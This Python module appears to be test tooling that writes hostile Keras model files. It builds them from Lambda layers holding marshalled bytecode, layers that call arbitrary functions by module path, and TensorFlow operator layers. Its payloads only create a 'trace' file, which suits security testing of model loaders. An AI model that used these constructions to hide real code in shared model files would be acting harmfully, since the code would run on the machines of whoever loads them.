"""Writes model files that attack who opens them, without Keras.

Every payload is harmless: where it works, it leaves a file called `trace`.
"""

import base64
import copy
import io
import json
import marshal
import zipfile
from pathlib import Path

import h5py
import numpy as np

Json = dict


def tensor(layer: str) -> Json:
    """A tensor of an earlier layer, as Keras 3 writes it."""
    history = {"shape": [None, 4], "dtype": "float32", "keras_history": [layer, 0, 0]}
    return {"class_name": "__keras_tensor__", "config": history}


def layer(kind: str, name: str, config: Json, *args: object, module="keras.layers", **kwargs):
    """A layer of Keras 3 that is called once."""
    given = config if isinstance(config, str) else {"name": name, **config}
    return {
        "module": module, "class_name": kind, "config": given, "registered_name": None,
        "name": name, "inbound_nodes": [{"args": list(args), "kwargs": kwargs}],
    }  # fmt: skip


def function(module: str, name: str) -> Json:
    """A function by its place, as Keras 3 writes activations."""
    return {"module": module, "class_name": "function", "config": name, "registered_name": name}


def called(module: str, name: str, *args: object, **kwargs: object) -> Json:
    """A 'layer' that is a function by its place, called with these arguments."""
    found = layer("function", "pwn", name, *args, module=module, **kwargs)
    return {**found, "registered_name": name}


def leaving(trace: Path) -> Json:
    """A Lambda's function that leaves a trace, as Keras 3 writes it."""
    code = base64.b64encode(marshal.dumps(leaving_code(trace))).decode()
    return {
        "class_name": "__lambda__",
        "config": {"code": code, "defaults": None, "closure": None},
    }


def leaving_code(trace: Path):
    """The compiled body of a function that leaves a trace and returns its argument."""
    space: dict = {}
    exec(f"def f(x):\n    open({str(trace)!r}, 'w').close()\n    return x\n", space)
    return space["f"].__code__


def model(*layers: Json, last: str | None = None) -> Json:
    """A functional model of Keras 3: an input of 4 numbers, the layers given, and a Dense."""
    shape = {"batch_shape": [None, 4], "dtype": "float32", "name": "x"}
    first = {**layer("InputLayer", "x", shape), "inbound_nodes": []}
    dense = layer("Dense", "y", {"units": 4, "activation": "linear"}, tensor("x"))
    return {
        "module": "keras.src.models.functional", "class_name": "Functional",
        "registered_name": "Functional",
        "config": {
            "name": "hostile", "trainable": True, "layers": [first, *layers, dense],
            "input_layers": [["x", 0, 0]], "output_layers": [[last or "y", 0, 0]],
        },
    }  # fmt: skip


def with_layer(changed: Json) -> Json:
    """A model whose Dense has another configuration."""
    found = copy.deepcopy(model())
    found["config"]["layers"][-1]["config"].update(changed)
    return found


def weights(change=lambda group: None) -> bytes:
    """`model.weights.h5` of `model()`; `change` gets the group that holds the Dense's variables."""
    file = io.BytesIO()
    with h5py.File(file, "w") as stored:
        group = stored.create_group("layers/dense/vars")
        group.attrs["name"] = "y"
        stored.create_group("layers/input_layer/vars").attrs["name"] = "x"
        group["0"], group["1"] = np.eye(4, dtype=np.float32), np.zeros(4, np.float32)
        change(group)
    return file.getvalue()


def archive(path: Path, config: Json, members=(), *, stored=None, version="3.15.1") -> Path:
    """A `.keras` archive; `members` are further ones."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as made:
        made.writestr("metadata.json", json.dumps({"keras_version": version}))
        made.writestr("config.json", json.dumps(config))
        made.writestr("model.weights.h5", weights() if stored is None else stored)
        for name, content in members:
            made.writestr(name, content)
    return path


def h5(path: Path, config: Json, change=lambda group: None, *, version="3.15.1") -> Path:
    """A whole model as an `.h5` file; `change` gets the group of the Dense's weights."""
    with h5py.File(path, "w") as made:
        made.attrs["model_config"] = json.dumps(config)
        made.attrs["keras_version"], made.attrs["backend"] = version, "tensorflow"
        group = made.create_group("model_weights")
        group.attrs["layer_names"] = [b"x", b"y"]
        group.create_group("x").attrs["weight_names"] = np.array([], "S1")
        dense = group.create_group("y")
        dense.attrs["weight_names"] = [b"y/kernel:0", b"y/bias:0"]
        dense["y/kernel:0"] = np.eye(4, dtype=np.float32)
        dense["y/bias:0"] = np.zeros(4, np.float32)
        change(dense["y"])
    return path


def keras2(*layers: Json) -> Json:
    """A functional model of Keras 2: an input of 4 numbers, the layers given, and a Dense."""
    last = layers[-1]["name"] if layers else "x"
    first = {
        "class_name": "InputLayer", "name": "x", "inbound_nodes": [],
        "config": {"batch_input_shape": [None, 4], "dtype": "float32", "name": "x"},
    }  # fmt: skip
    dense = keras2_layer("Dense", "y", {"units": 4, "activation": "linear"}, last)
    config = {
        "name": "hostile", "layers": [first, *layers, dense],
        "input_layers": [["x", 0, 0]], "output_layers": [["y", 0, 0]],
    }  # fmt: skip
    return {"class_name": "Functional", "config": config}


def keras2_layer(kind: str, name: str, config: Json, before: str, **keywords: object) -> Json:
    """A layer of Keras 2 that is called once."""
    nodes = [[[before, 0, 0, keywords]]]
    return {
        "class_name": kind,
        "config": {"name": name, **config},
        "name": name,
        "inbound_nodes": nodes,
    }


def keras2_operator(symbol: str, first: object = "x", **keywords: object) -> Json:
    """An operator of TensorFlow in a model of Keras 2, called with a tensor or a constant."""
    config = {"name": "op", "trainable": True, "dtype": "float32", "function": symbol}
    entry = [first, 0, 0, keywords] if isinstance(first, str) else first
    nodes = [entry] if isinstance(first, str) else [first]
    return {
        "class_name": "TFOpLambda",
        "config": config,
        "name": "op",
        "inbound_nodes": nodes,
    }
